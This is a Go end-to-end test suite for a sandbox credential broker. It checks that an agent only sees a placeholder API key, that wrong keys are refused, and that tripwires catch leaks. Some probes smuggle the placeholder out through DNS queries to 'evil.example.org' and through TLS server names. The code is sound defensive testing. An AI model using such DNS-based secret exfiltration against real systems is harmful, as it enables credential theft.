package e2e

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/clawguard/clawguard/verify"
)

// brokerProfile binds the test secret to the fake API, behind the name
// gate on its port.
func brokerProfile(onTripwire string) string {
	return fmt.Sprintf(`egress:
  allow:
    - {host: %s, ports: [%d], tls: true}
    - {host: api.example.test, ports: [443]}
    - {host: "*.wild.example.test", ports: [443]}
credentials:
  - {secret: anthropic_api_key, hosts: [%s], header: x-api-key}
on_tripwire: %s
`, apiHost, apiPort, apiHost, onTripwire)
}

type probeFetched struct {
	Status int
	Proto  string
	Body   string
	Error  string
}

// hostAPI asks the fake API from the host, trusting its CA, with key.
func hostAPI(t *testing.T, key string) (int, error) {
	t.Helper()
	pem, err := os.ReadFile(env.net.api.caFile)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: pool},
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "tcp", fmt.Sprintf("%s:%d", api2Addr, apiPort))
		},
	}}
	req, _ := http.NewRequest("GET", fmt.Sprintf("https://%s:%d/control", apiHost, apiPort), nil)
	req.Header.Set("X-Api-Key", key)
	resp, err := c.Do(req)
	if err != nil {
		return 0, err
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode, nil
}

// TestAKeyNeverEntersTheSandboxAndOnlyItsPlaceholderIsServed: the agent's
// secret file holds a placeholder; a request with it reaches the API with
// the real key, and one with any other key, none, or the key in another
// header is refused before the API sees it, where the API, asked from the
// host, takes any key. The real key is nowhere the agent can read, where an
// unbound secret beside it is found by the same search; nor in clawguard's
// state, logs or status. The placeholder in a server name or a DNS query
// trips the wire.
func TestAKeyNeverEntersTheSandboxAndOnlyItsPlaceholderIsServed(t *testing.T) {
	h := env
	if code, err := hostAPI(t, "sk-attacker"); err != nil || code != 200 {
		t.Fatalf("control: the API does not take another key from the host (%d, %v): refusing it below would prove nothing", code, err)
	}
	before := len(h.net.api.received())
	const name = "broker"
	dir, file := h.project(t, profile{Name: name, Extra: brokerProfile("log")})
	const unbound = "sk-unbound-e2e-marker-51c2"
	if err := os.WriteFile(filepath.Join(dir, "secrets", "other_token"), []byte(unbound), 0o600); err != nil {
		t.Fatal(err)
	}
	h.startFile(t, name, dir, file, nil)

	placeholder, _, _ := h.exec(t, name, "cat", "/run/secrets/anthropic_api_key")
	if placeholder == secretValue || !strings.HasPrefix(placeholder, "cg-") || len(placeholder) != 43 {
		t.Fatalf("/run/secrets/anthropic_api_key holds %q, want a placeholder", placeholder)
	}
	url := fmt.Sprintf("https://%s:%d/v1/messages", apiHost, apiPort)
	var f probeFetched
	h.netProbe(t, name, &f, "https", url, "x-api-key: "+placeholder)
	got := h.net.api.received()[before:]
	if f.Status != 200 || !strings.HasPrefix(f.Body, "api answered /v1/messages") || len(got) != 1 || got[0].APIKey != secretValue {
		t.Fatalf("the placeholder: %+v; the API received %+v", f, got)
	}
	for _, tc := range []struct{ what, header string }{
		{"the attacker's own key", "x-api-key: sk-attacker"},
		{"no key", "x-note: none"},
		{"the placeholder in another header", "authorization: Bearer " + placeholder},
	} {
		h.netProbe(t, name, &f, "https", url, tc.header)
		if f.Status != http.StatusForbidden {
			t.Errorf("%s: %+v, want 403", tc.what, f)
		}
	}
	if got := h.net.api.received()[before:]; len(got) != 1 {
		t.Errorf("refused requests reached the API: %+v", got[1:])
	}

	// The key nowhere in the sandbox; the search finds the unbound one.
	var found struct {
		Files    []string
		Searched int
	}
	h.netProbe(t, name, &found, "find", unbound)
	if len(found.Files) == 0 {
		t.Fatalf("control: the search does not find an unbound secret (%+v): not finding the key would prove nothing", found)
	}
	h.netProbe(t, name, &found, "find", secretValue)
	if len(found.Files) != 0 {
		t.Errorf("the real key is readable in the sandbox: %v", found.Files)
	}
	status, _, _ := h.cg("status", "--json", name)
	if strings.Contains(status, secretValue) {
		t.Error("the real key is in status")
	}
	_ = filepath.WalkDir(h.stateDir, func(path string, d fs.DirEntry, err error) error {
		// Other sandboxes' staged secrets hold the test key unbound; this
		// one's are searched with the rest.
		if err != nil || !d.Type().IsRegular() || strings.Contains(path, "/secrets/") && !strings.Contains(path, "/"+name+"/secrets/") {
			return nil
		}
		if b, err := os.ReadFile(path); err == nil && strings.Contains(string(b), secretValue) {
			t.Errorf("the real key is in %s", path)
		}
		return nil
	})

	// verify proves it from the host and from inside.
	if v, _ := h.verifySandbox(t, name); result(v, "credentials").Status != verify.Pass {
		t.Errorf("verify credentials: %+v\n%s", result(v, "credentials"), v.explain())
	}

	// The tripwire: the placeholder as a server name, and in a DNS query.
	word := placeholder[len(placeholder)-40:]
	var c probeConnected
	h.netProbe(t, name, &c, "tls", apiAddr+":443", word+".example.test", "2s")
	var d probeDNS
	h.netProbe(t, name, &d, "dns", testGW+":53", word[:20]+"."+word[20:]+".evil.example.org", "A")
	if d.Rcode == "NOERROR" || len(d.Answers) > 0 || c.OK {
		t.Errorf("the placeholder in a DNS query: %+v; as a server name: %+v", d, c)
	}
	// Under a wildcard the allowlist would let a name through to its
	// zone's servers: another new name goes, the placeholder's does not.
	control, leak := "control-e2e-label.wild.example.test", word+".wild.example.test"
	h.netProbe(t, name, &d, "dns", testGW+":53", control, "A")
	if h.net.dns.timesAsked(control) == 0 {
		t.Fatalf("control: a new name under the wildcard did not reach the upstream (%+v): stopping the placeholder's would prove nothing", d)
	}
	h.netProbe(t, name, &d, "dns", testGW+":53", leak, "A")
	if n := h.net.dns.timesAsked(leak); n != 0 || len(d.Answers) > 0 {
		t.Errorf("the placeholder under an allowed wildcard reached the upstream %d times: %+v", n, d)
	}
	if n := auditEvents(t, name, "credential_leak_attempt"); n != 3 {
		t.Errorf("%d credential_leak_attempt events in the audit log, want one each for the server name and the two DNS queries", n)
	}
	if n := auditEvents(t, name, "credential_refused"); n != 4 {
		t.Errorf("%d credential_refused events in the audit log, want 4: the three above and verify's", n)
	}
}

// TestATrippedWireFreezesTheSandbox: on_tripwire: freeze stops every
// process where it is; status shows it, and stop still ends it.
func TestATrippedWireFreezesTheSandbox(t *testing.T) {
	h := env
	const name = "broker-freeze"
	h.start(t, profile{Name: name, Extra: brokerProfile("freeze")})
	placeholder, _, _ := h.exec(t, name, "cat", "/run/secrets/anthropic_api_key")
	if st := h.status(t, name); st == nil || st.State != "running" {
		t.Fatalf("control: before the tripwire: %+v", st)
	}
	// The query freezes the very process that asks it: it is not waited for.
	ask := exec.Command(h.bin, append(h.globalFlags(), "exec", name, "--", "/usr/local/bin/cgprobe", "dns", testGW+":53", placeholder[len(placeholder)-40:]+".evil.example.org", "A")...)
	if err := ask.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = ask.Process.Kill(); _ = ask.Wait() }()
	var st *statusJSON
	for i := 0; i < 20; i++ {
		if st = h.status(t, name); st != nil && st.State == "paused" {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if st == nil || st.State != "paused" {
		t.Fatalf("after the tripwire: %+v, want paused", st)
	}
	if _, stderr, code := h.cg("stop", "--timeout", "2s", name); code != 0 {
		t.Fatalf("stop of a frozen sandbox: exit %d: %s", code, stderr)
	}
}

// auditEvents counts the audit log's events of kind about sandbox.
func auditEvents(t *testing.T, sandbox, kind string) int {
	t.Helper()
	b, err := os.ReadFile(env.stateDir + "/audit.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, line := range strings.Split(string(b), "\n") {
		var e struct{ Sandbox, Kind string }
		if json.Unmarshal([]byte(line), &e) == nil && e.Sandbox == sandbox && e.Kind == kind {
			n++
		}
	}
	return n
}

// TestTheBrokerComesBackWithTheDaemon: with the daemon killed, a bound
// request fails (the gate is down: refused, never passed); the restarted
// daemon adopts the sandbox with the same placeholder and authority, and
// the placeholder is served as the key again.
func TestTheBrokerComesBackWithTheDaemon(t *testing.T) {
	h := env
	d := h.startDaemon(t)
	const name = "broker-daemon"
	_, file := h.project(t, profile{Name: name, Extra: brokerProfile("log")})
	if _, stderr, code := h.cg("run", "--detach", "--profile", file); code != 0 {
		t.Fatalf("run --detach: exit %d: %s\ndaemon:\n%s", code, stderr, d.out.String())
	}
	t.Cleanup(func() { h.cg("stop", "--timeout", "1s", name) })
	placeholder, _, _ := h.exec(t, name, "cat", "/run/secrets/anthropic_api_key")
	url := fmt.Sprintf("https://%s:%d/v1/adopted", apiHost, apiPort)
	served := func() probeFetched {
		var f probeFetched
		h.netProbe(t, name, &f, "https", url, "x-api-key: "+placeholder)
		return f
	}
	if f := served(); f.Status != 200 {
		t.Fatalf("control: with the daemon up: %+v", f)
	}
	if err := d.cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	<-d.exited
	if f := served(); f.Status != 0 || f.Error == "" {
		t.Fatalf("with the daemon killed, a bound request was answered: %+v", f)
	}
	h.startDaemon(t)
	var f probeFetched
	for i := 0; i < 20; i++ {
		if f = served(); f.Status == 200 {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	got := h.net.api.received()
	if f.Status != 200 || got[len(got)-1].Path != "/v1/adopted" || got[len(got)-1].APIKey != secretValue {
		t.Fatalf("after adoption: %+v; the API last received %+v", f, got[len(got)-1])
	}
	if again, _, _ := h.exec(t, name, "cat", "/run/secrets/anthropic_api_key"); again != placeholder {
		t.Errorf("the placeholder changed with the daemon: %q, was %q", again, placeholder)
	}
}
